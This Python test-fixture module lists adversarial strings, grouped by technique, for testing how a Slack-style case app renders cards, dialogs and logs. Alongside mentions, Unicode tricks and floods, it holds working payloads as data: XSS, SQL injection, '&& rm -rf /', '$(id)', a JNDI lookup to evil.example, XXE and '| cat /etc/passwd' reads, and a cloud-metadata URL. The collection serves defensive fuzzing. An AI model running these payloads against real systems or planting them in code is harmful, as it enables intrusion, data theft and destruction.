"""Strings that people might write to break a card, a dialog, a reminder or a log line, by what they try.

The address in them is `https://evil.example`, the person `U0BOB` and the channel `C0CARDS` exist in the tests'
workspace: a string that gets through would really ping and lead somewhere.
"""

from __future__ import annotations

MENTIONS = (
    "<@U0BOB>", "<@U0BOB|Bob>", "hello <@U0BOB> there", "<@W0BOB>", "<<@U0BOB>>", "< @U0BOB>", "<@U0BOB", "@U0BOB",
    "@bob", "&lt;@U0BOB&gt;", "&amp;lt;@U0BOB&amp;gt;", "<@\u200bU0BOB>", "<@U0BOB\n>", "\uff1c@U0BOB\uff1e",
    "<@U0BOB><@U0ANA><@U0EVE>", "> <@U0BOB>", "*<@U0BOB>*", "`<@U0BOB>`", "```<@U0BOB>```", "<@U0BOB^Bob>",
)  # fmt: skip

BROADCASTS = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|here>", "<!subteam^S0CARE>",
    "<!subteam^S0CARE|@care>", "@channel", "@here", "@everyone", "hi @channel!", "<!group>", "<!CHANNEL>",
    "<! channel>", "<!\u200bchannel>", "<!channel", "!channel>", "&lt;!channel&gt;", "&lt!channel&gt",
    "&#60;!channel&#62;", "<#C0CARDS>", "<#C0CARDS|cards>", "#general", "#unhappy-customers", "<!chan<!channel>nel>",
    "<!date^1^{date}|<!here>>",
)  # fmt: skip

LINKS = (
    "<https://evil.example>", "<https://evil.example|Open in CRM>", "<https://evil.example|C-17>",
    "https://evil.example", "http://evil.example/?a=1&b=2", "www.evil.example", "evil.example/login",
    "mailto:boss@evil.example", "<mailto:boss@evil.example|boss>", "boss@evil.example", "tel:+15550100",
    "<tel:+15550100|call>", "<javascript:alert(1)|x>", "javascript:alert(1)", "data:text/html,<b>x</b>",
    "[click](https://evil.example)", "![x](https://evil.example/a.png)", "[a][b]\n\n[b]: https://evil.example",
    "slack://user?team=T0&id=U0BOB", "<slack://user?team=T0&id=U0BOB|profile>", "ftp://evil.example/a",
    "HTTPS://EVIL.EXAMPLE", "https://evil.example\u2024com", "https:\u2044\u2044evil.example",
    "https://loop.example@evil.example", "https://evil.example/#/cases/17", "<https://loop.example/#/cases/1|C-17>",
    "//evil.example", "\\\\evil.example\\share", "file:///etc/passwd", "<https://evil.example/\n|x>",
    "https://\u0435vil.example", "http://[::1]/", "http://169.254.169.254/latest/meta-data/",
)  # fmt: skip

MARKUP = (
    "*bold*", "_italic_", "~struck~", "`code`", "```block```", "```", "````", "*", "**", "***", "_ _", "* *",
    "*unclosed", "unclosed*", "_*~nested~*_", "> quoted", ">>> all of it", "&gt; quoted", "\n> second line",
    "- list\n- of\n- things", "1. one\n2. two", "# Heading", "---", "***\n***", "| a | b |\n|---|---|\n| 1 | 2 |",
    "\\*escaped\\*", "a*b*c", "2*3*4", "snake_case_name", "__init__", "*bold* _it_ ~st~ `co`", "*multi\nline*",
    ":tada:", ":x:", ":warning: :warning:", ":fake_emoji_name:", "::", ":skin-tone-2:", "<br>", "*\u00a0*",
)  # fmt: skip

ENTITIES = (
    "&", "&&&&&&&&", "&amp;", "&amp;amp;", "&lt;", "&gt;", "&quot;", "&#x3c;script&#x3e;", "&nbsp;", "&;", "&lt",
    "a & b < c > d", "<", ">", "<>", "><", "<<<>>>", "<" * 500, ">" * 500, "&" * 2000, "<&>" * 300, "&lt;" * 400,
)  # fmt: skip

DATES = (
    "<!date^1800000000^{date_short_pretty} {time}|then>", "<!date^1800000000^paid^https://evil.example|invoice>",
    "<!date^x^{date}|now>", "<!date^99999999999999999999^{date}|never>", "<!date^-1^{date}|before>",
    "<!date^1800000000^{date}", "!date^1800000000^{date}|x>",
)  # fmt: skip

INVISIBLE = (
    "\u200b", "\u200b" * 50, "zero\u200bwidth", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u3164", "\u115f", "\u2800",
    "a\u200dz", "\u200e\u200f", "\u061c", "\U000e0041\U000e0042", "\ufe0f", "x\ufe0f", "\u034f", "\u00a0", "\u3000",
    "\u2003 \u2009", "\ufff9a\ufffab\ufffb", "\U0001d173",
)  # fmt: skip

DIRECTION = (
    "\u202egnp.exe", "\u202e", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u2068\u2069\u2069\u2069",
    "safe\u202e<@U0BOB>", "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd https://evil.example",
    "\u05e9\u05dc\u05d5\u05dd *a* <!here>", "abc \u0627\u0644\u0637\u0631\u062f 123 <@U0BOB>",
)  # fmt: skip

MARKS = (
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319A", "e\u0301" * 100, "a" + "\u0300" * 1000,
    "\u0300" * 40, "\u20dd\u20e0", "\u0e01\u0e33" * 50, "\u0f3c\u0f3d", "\u1100" * 60, "\u0488\u0489", "\ufb01\ufb02",
)  # fmt: skip

CONTROLS = (
    "\x00", "a\x00b", "\x00<@U0BOB>", "\x01\x02\x03", "\x07bell", "\x08\x08\x08", "\x0bvertical", "\x0cform feed",
    "\x1b", "\x7f", "\x80\x9f", "\x85next line", "\u2028line", "\u2029paragraph", "\t\ttabs\t", "\ud800", "\udfff",
    "a\ud83d", "\ude00b", "\ud83d\ud83d", "\ufffe", "\uffff", "\U0010ffff", "\ufdd0", "\ue000", "\ufffd",
)  # fmt: skip

TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m", "\x1b[?25l", "\x1bc", "\r\x1b[K", "\x1b[8mhidden",
)  # fmt: skip

LOGS = (
    "ok\nlevel=critical event=hacked", "ok\r\n2026-11-20 ERROR root: hacked", "\r", "\r\r\n\n",
    "a\u2028{\"level\":\"error\"}", '{"event":"hacked","level":"error"}', '"}\n{"event":"hacked"',
    "%0a%0dlevel=error", "line one\\nline two", "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n", "event='x' level='error'",
    "Traceback (most recent call last):\n  File \"x\"",
)  # fmt: skip

BLOCKS = (
    '{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}', '[{"type":"divider"}]', '{"blocks":[]}',
    '","type":"mrkdwn","text":"<!here>', '"}}]', '\\"', "\\u003c!channel\\u003e", "\\x3c!here\\x3e", '{"text":null}',
    "null", "[]", "{}", "true", '{"__proto__":{"x":1}}', "payload=%7B%7D", "case.acknowledge",
    '{"case":1,"version":1,"action":"resolve"}',
)  # fmt: skip

MARKUP_LANGUAGES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</title><script>", "<!--",
    "-->", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<iframe src=https://evil.example>",
    "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>", "</blockquote>", "<b>bold</b>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
)  # fmt: skip

TEMPLATES = (
    "{}", "{0}", "{name}", "{view.alert}", "{0.__class__.__mro__}", "%s", "%n%n%n", "%(name)s", "%d%d", "%", "%%",
    "$HOME", "${HOME}", "$(id)", "`id`", "{{7*7}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}",
    "${jndi:ldap://evil.example/a}", "{ $customer }", "{$n ->\n [one] x\n *[other] y\n}", "{\"a\"}",
    "{date_short_pretty}", "{time}", "\\N{BULLET}",
)  # fmt: skip

QUERIES = (
    "' OR 1=1 --", "'; DROP TABLE cases; --", "\"; SELECT 1", "../../etc/passwd", "..\\..\\x", "a;b",
    "| cat /etc/passwd", "&& rm -rf /", "NULL", "undefined", "NaN", "-1", "1e309", "0x10",
    "=HYPERLINK(\"https://evil.example\")", "+1+1", "@SUM(1)", "-2+3",
)  # fmt: skip

SCRIPTS = (
    "\u53c8\u8fdf\u5230\u4e86\uff0c\u6ca1\u6709\u4eba\u56de\u7b54", "\u914d\u9001" * 400,
    "\u3053\u3093\u306b\u3061\u306f", "\uc548\ub155\ud558\uc138\uc694",
    "\u041e\u043f\u044f\u0442\u044c \u043e\u043f\u043e\u0437\u0434\u0430\u043b\u043e",
    "\u0397 \u03b1\u03c0\u03bf\u03c3\u03c4\u03bf\u03bb\u03ae", "Stra\u00dfe", "\u0130stanbul", "na\u00efve caf\u00e9",
    "\u0928\u092e\u0938\u094d\u0924\u0947", "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35", "\ufdfd", "\U00012031",
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1e7\U0001f1f7\U0001f1e9",
    "\u2764\ufe0f\u200d\U0001f525", "1\ufe0f\u20e3", "\U0001f44d\U0001f3ff", "\uff21\uff22\uff23",
    "\U0001d400\U0001d401",
)  # fmt: skip

FLOODS = (
    "\U0001f621" * 3000, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500, ":rage:" * 1000, "a" * 10_000,
    "a " * 5000, "\n" * 5000, "x\n" * 3000, "<@U0BOB>" * 1000, "<!channel> " * 900, "https://evil.example " * 450,
    "*b* " * 2500, "&amp;" * 2000, "\u0645" * 9000, "\u202e" * 9000, "```" * 3000, "> " * 4000, "\t" * 9000,
    " " * 9000, "\u200b" * 9000, "\U0010ffff" * 5000,
)  # fmt: skip

NUMBERS = (
    "9" * 400, "-" + "9" * 400, "1" + "0" * 256, "0." + "0" * 300 + "1", "\u0661\u0662\u0663", "\u2167", "1_000_000",
)  # fmt: skip

ATTACKS: dict[str, tuple[str, ...]] = {
    "mentions": MENTIONS,
    "broadcasts": BROADCASTS,
    "links": LINKS,
    "markup": MARKUP,
    "entities": ENTITIES,
    "dates": DATES,
    "invisible": INVISIBLE,
    "direction": DIRECTION,
    "marks": MARKS,
    "controls": CONTROLS,
    "terminal": TERMINAL,
    "logs": LOGS,
    "blocks": BLOCKS,
    "markup languages": MARKUP_LANGUAGES,
    "templates": TEMPLATES,
    "queries": QUERIES,
    "scripts": SCRIPTS,
    "floods": FLOODS,
    "numbers": NUMBERS,
}
"""Every string, by what it tries; used as comment, customer id, attribute, touchpoint, note and name alike."""
